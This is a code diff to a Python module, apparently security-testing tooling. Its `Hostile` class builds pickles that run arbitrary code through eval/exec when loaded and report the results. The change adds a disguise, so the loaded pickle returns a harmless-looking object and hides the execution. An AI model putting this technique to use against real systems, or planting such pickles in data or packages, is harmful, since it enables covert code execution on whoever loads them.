@@ -7,11 +7,13 @@ from __future__ import annotations
 
 import inspect
 import json
+import pickle
 from collections.abc import Mapping
 from typing import Any
 
 MARK = "CATALOGUE-REPORT "
 Targets = Mapping[str, tuple[str, Any]]
+_NOTHING = pickle.dumps(None)
 
 
 def attempt(targets: dict) -> dict:
@@ -49,15 +51,15 @@ def attempt(targets: dict) -> dict:
 
 
 class Hostile:
-    """Unpickled, it runs `attempt`, writes what came of it to standard output, and is then nothing at all."""
+    """Unpickled, it runs `attempt`, writes what came of it to standard output, and is then what `disguise` unpickles to."""
 
-    def __init__(self, targets: Targets) -> None:
-        self.targets = dict(targets)
+    def __init__(self, targets: Targets, disguise: bytes = _NOTHING) -> None:
+        self.targets, self.disguise = dict(targets), disguise
 
     def __reduce__(self) -> tuple[Any, ...]:
         source = inspect.getsource(attempt)
         code = f"{source}\nimport json\nprint({MARK!r} + json.dumps(attempt({self.targets!r})), flush=True)"
-        return eval, (f"exec({code!r}, {{}})",)
+        return eval, (f"(exec({code!r}, {{}}), __import__('pickle').loads({self.disguise!r}))[1]",)
 
 
 def reported(log: str) -> dict[str, str]:
